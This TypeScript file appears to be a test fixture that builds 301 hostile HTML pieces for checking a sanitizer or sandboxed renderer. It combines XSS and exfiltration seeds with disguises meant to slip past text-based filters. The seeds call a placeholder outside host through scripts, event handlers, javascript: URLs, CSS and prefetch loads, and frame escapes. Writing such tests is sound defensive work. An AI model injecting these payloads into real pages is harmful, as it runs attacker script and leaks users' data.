/** HTML that tries to run something, to ask for something, or to get out of its frame. `{{out}}` is another server's address. */
const seeds: readonly string[] = [
  '<script>globalThis.ran = 1; fetch("{{out}}")</script>',
  '<script src="{{out}}/a.js"></script>',
  '<img src=x onerror="ran()">',
  '<img src="{{out}}/pixel.png">',
  '<img srcset="{{out}}/2x.png 2x">',
  '<picture><source srcset="{{out}}/s.png"><img src="data:,"></picture>',
  '<svg onload="ran()"><script>ran()</script><image href="{{out}}/i.png"/></svg>',
  '<svg><use href="{{out}}/u.svg#a"/></svg>',
  '<math><mi xlink:href="javascript:ran()">x</mi></math>',
  '<iframe src="{{out}}/frame"></iframe>',
  '<iframe srcdoc="<script>parent.parent.ran=1</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="{{out}}/o"></object><embed src="{{out}}/e">',
  '<link rel="stylesheet" href="{{out}}/s.css">',
  '<link rel="preconnect" href="{{out}}"><link rel="dns-prefetch" href="{{out}}">',
  '<link rel="prefetch" href="{{out}}/p"><link rel="preload" as="image" href="{{out}}/q">',
  '<li<link>nk rel="preconnect" href="{{out}}">',
  '<link rel="modulepreload" href="{{out}}/m.js"><link rel="manifest" href="{{out}}/m.json">',
  '<link rel="icon" href="{{out}}/icon.png">',
  '<meta http-equiv="refresh" content="0;url={{out}}/refresh">',
  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">`,
  '<base href="{{out}}/"><img src="relative.png">',
  '<style>@import url("{{out}}/i.css");</style>',
  '<style>body { background: url("{{out}}/b.png") }</style>',
  '<style>@font-face { font-family: f; src: url("{{out}}/f.woff2") } body { font-family: f }</style>',
  '<div style="background:url({{out}}/d.png);width:9px;height:9px"></div>',
  '<div style="content:url({{out}}/c.png)">a</div><table background="{{out}}/t.png"><tr><td>a</table>',
  '<video src="{{out}}/v.mp4" autoplay poster="{{out}}/p.png"></video>',
  '<audio src="{{out}}/a.mp3" autoplay></audio><track src="{{out}}/t.vtt">',
  '<form id="f" action="{{out}}/form" method="post"><input name="a" autofocus onfocus="ran()"></form>',
  '<button form="f" formaction="{{out}}/b">go</button><input type="image" src="{{out}}/in.png">',
  '<a id="out" href="{{out}}/link" ping="{{out}}/ping">follow</a>',
  '<a href="{{out}}/top" target="_top">follow</a><a href="{{out}}/new" target="_blank">follow</a>',
  '<a href="javascript:ran()">follow</a>',
  '<details open ontoggle="ran()"><summary>a</summary></details>',
  '<marquee onstart="ran()">a</marquee><body onload="ran()" onpageshow="ran()">',
  '<template shadowrootmode="open"><script>ran()</script><img src="{{out}}/shadow.png"></template>',
  '<noscript><img src="{{out}}/noscript.png"></noscript>',
  '<!--[if mso]><img src="{{out}}/mso.png"><![endif]--><!--><script>ran()</script>-->',
  '<xmp><img src="{{out}}/x.png"></xmp><title><img src="{{out}}/t.png" onerror="ran()"></title>',
  '<style></style/><script>ran()</script><svg><style><img src="{{out}}/s.png" onerror="ran()"></style></svg>',
  '<img src="/api/project"><img src="/events"><iframe src="/"></iframe>',
]

/** Ways to hide the same thing from whoever looks for it in the text. */
const disguises: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
  (html) => html.replace(/<([a-z]+) /g, '<$1\n\t'),
  (html) => html.replace(/<([a-z]+) /g, '<$1/'),
  (html) => `<div><p>${html}`,
  (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
  (html) => `<table><tr><td>${html}</td></tr></table>`,
]

/** Hostile pieces of HTML: the seeds as they are, and each in each disguise, 301 in all. */
export function hostilePieces(out: string): { readonly plain: readonly string[]; readonly all: readonly string[] } {
  const plain = seeds.map((seed) => seed.replaceAll('{{out}}', out))
  return { plain, all: plain.flatMap((seed) => disguises.map((disguise) => disguise(seed))) }
}
